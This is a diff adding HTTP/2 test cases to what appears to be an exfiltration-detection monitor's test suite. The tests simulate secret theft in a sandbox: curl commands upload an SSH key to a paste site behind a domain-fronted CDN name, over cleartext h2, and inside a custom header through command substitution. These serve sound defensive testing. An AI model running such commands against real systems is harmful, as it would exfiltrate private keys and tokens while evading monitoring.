@@ -969,6 +969,133 @@ def test_fronting_inside_tls_twins_are_silent(monitor, standin, fake_home, tmp_p
                    if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
 
 
+# HTTP/2 (curl negotiates h2 when the server offers it in ALPN): the request's :authority is in
+# HPACK-coded HEADERS frames, Huffman-coded as curl sends it. nghttpd (nghttp2-server) serves h2
+# with the stand-in's certificate, and h2 with prior knowledge in cleartext, next to HTTPS_PORT.
+H2_PORT = HTTPS_PORT + 5
+H2C_PORT = HTTPS_PORT + 6
+GH_TOKEN = "gho_h2E2eTwin0123456789abcdefABCDEFghij"
+
+
+def wait_listening(port, process, deadline_s=10.0):
+    import socket
+    import time
+    deadline = time.monotonic() + deadline_s
+    while time.monotonic() < deadline:
+        assert process.poll() is None, f"nghttpd on {port} exited {process.returncode}"
+        with socket.socket() as probe:
+            if probe.connect_ex(("127.0.0.1", port)) == 0:
+                return
+        time.sleep(0.05)
+    pytest.fail(f"nghttpd is not listening on {port}")
+
+
+@pytest.fixture(scope="module")
+def h2_servers(standin, tmp_path_factory):
+    root = tmp_path_factory.mktemp("h2-docroot")
+    (root / "upload").write_text("ok\n")
+    servers = [subprocess.Popen(["nghttpd", "-a", "127.0.0.1", "-d", str(root), str(H2_PORT), str(standin.key),
+                                 str(standin.cert)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
+               subprocess.Popen(["nghttpd", "-a", "127.0.0.1", "--no-tls", "-d", str(root), str(H2C_PORT)],
+                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)]
+    try:
+        for port, server in zip((H2_PORT, H2C_PORT), servers):
+            wait_listening(port, server)
+        yield servers
+    finally:
+        for server in servers:
+            server.kill()
+            server.wait()
+
+
+def h2_curl(name, *options, port=H2_PORT):
+    """curl over h2 (fails unless the server answered 200), `name` resolved to loopback."""
+    scheme = ["--http2", f"https://{name}:{port}/upload"] if port == H2_PORT else \
+        ["--http2-prior-knowledge", f"http://{name}:{port}/upload"]
+    return " ".join(["curl -sSf -k -o /dev/null", f"--resolve {name}:{port}:127.0.0.1", *options, *scheme])
+
+
+def h2_requests(monitor, host, port):
+    """The http-request records curl's h2 requests gave for `host` (url.domain) on `port`."""
+    return monitor.wait_for(lambda r: get(r, "event.action") == "http-request" and get(r, "url.domain") == host
+                            and get(r, "destination.port") == port
+                            and str(get(r, "process.name")).startswith("curl"),
+                            WAIT_S, f"an http-request for {host} on {port}")
+
+
+def h2_attack(monitor, fake_home, tmp_path, name, shell, technique="T1567.003"):
+    scenario = Scenario(name, "alert", shell, technique=technique)
+    found = run_attack(scenario, monitor, None, fake_home, tmp_path)
+    assert_no_secret(monitor, key_of(fake_home))
+    return found
+
+
+def test_h2_fronting_inside_tls_is_named_by_the_authority(monitor, h2_servers, fake_home, tmp_path):
+    # The SNI names a harmless CDN; the :authority inside the h2 stream names the paste site.
+    shell = h2_curl(FRONT, "-H 'Host: pastebin.com'", f"--data-binary @{key_of(fake_home)}")
+    h2_attack(monitor, fake_home, tmp_path, "h2-fronting", shell)
+    hellos = hello_named(monitor, H2_PORT, FRONT, "curl")
+    assert hellos and all("h2" in as_list(get(h, "exfilwatch.tls.alpn", [])) for h in hellos), hellos
+    h2_requests(monitor, NAMED, H2_PORT)
+    alerts = named_alerts(monitor, H2_PORT)
+    evidence = [s.get("evidence", "") for a in alerts for s in as_list(get(a, "exfilwatch.signals", []))]
+    assert any(f"also named {FRONT}" in e for e in evidence), evidence
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson")
+    assert returncode == 0, stderr
+    live = sorted(map(alert_key, filter(is_alert, monitor.records())), key=repr)
+    assert sorted(map(alert_key, filter(is_alert, records)), key=repr) == live
+
+
+def test_h2_cleartext_with_prior_knowledge_is_named_by_the_authority(monitor, h2_servers, fake_home, tmp_path):
+    # No TLS, no SNI and no DNS: the IP alone would name nothing; the :authority names it.
+    shell = h2_curl(NAMED, f"--data-binary @{key_of(fake_home)}", port=H2C_PORT)
+    h2_attack(monitor, fake_home, tmp_path, "h2c-upload", shell)
+    h2_requests(monitor, NAMED, H2C_PORT)
+    named_alerts(monitor, H2C_PORT)
+
+
+def test_h2_key_in_a_custom_header_is_a_content_match(monitor, h2_servers, fake_home, tmp_path):
+    # A line of the key in an X-Trace header, Huffman-coded by curl's HPACK encoder, no body.
+    line = "$(sed -n 2p $HOME/.ssh/id_ed25519)"
+    shell = h2_curl(NAMED, f"-H \"X-Trace: {line}\"")
+    found = h2_attack(monitor, fake_home, tmp_path, "h2-header", shell)
+    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any("raw in the header x-trace" in e for e in evidence), evidence
+
+
+def test_h2_harmless_upload_is_silent(monitor, h2_servers, fake_home, tmp_path):
+    execute(Scenario("h2-twin", "silent", h2_curl(FRONT, f"--data-binary @{HARMLESS}")), fake_home, tmp_path)
+    h2_requests(monitor, FRONT, H2_PORT)
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == H2_PORT
+                     and get(r, "destination.domain") == FRONT, WAIT_S, f"a flow-summary to {FRONT}")
+    monitor.stop()
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == H2_PORT or str(tmp_path) in json.dumps(r)])
+
+
+def test_h2_token_in_authorization_to_its_own_api_is_silent(monitor, h2_servers, fake_home, tmp_path):
+    # gh's token read by awk and sent in Authorization over h2 to api.github.com: use, as over
+    # HTTP/1 (test_everyday); the scans saw it there, by name, through HPACK.
+    hosts = fake_home.path / ".config" / "gh" / "hosts.yml"
+    hosts.parent.mkdir(parents=True, exist_ok=True)
+    hosts.write_text(f"github.com:\n    oauth_token: {GH_TOKEN}\n    user: ci\n    git_protocol: https\n")
+    shell = ("TOKEN=$(awk '/oauth_token/{print $2}' $HOME/.config/gh/hosts.yml); " +
+             h2_curl("api.github.com", "-H \"Authorization: token $TOKEN\"", "-H 'Content-Type: application/json'",
+                     "-d '{\"state\":\"success\",\"context\":\"ci\"}'"))
+    execute(Scenario("h2-use", "silent", shell), fake_home, tmp_path)
+    h2_requests(monitor, "api.github.com", H2_PORT)
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == H2_PORT
+                     and get(r, "destination.domain") == "api.github.com", WAIT_S, "a flow-summary to api.github.com")
+    monitor.stop()
+    scans = [s for s in monitor.records() if get(s, "event.action") == "content-scan"
+             and get(s, "exfilwatch.content.source") == "openssl"]
+    assert any("authorization" in as_list(get(s, "exfilwatch.content.auth_headers", [])) for s in scans), scans
+    assert GH_TOKEN not in monitor.output.read_text(errors="replace")
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == H2_PORT or str(tmp_path) in json.dumps(r)])
+
+
 def tls_upload(*options):
     return " ".join([str(paths.PYTHON), str(TLS_UPLOAD), "--sni", NAMED, *map(str, options)])
 
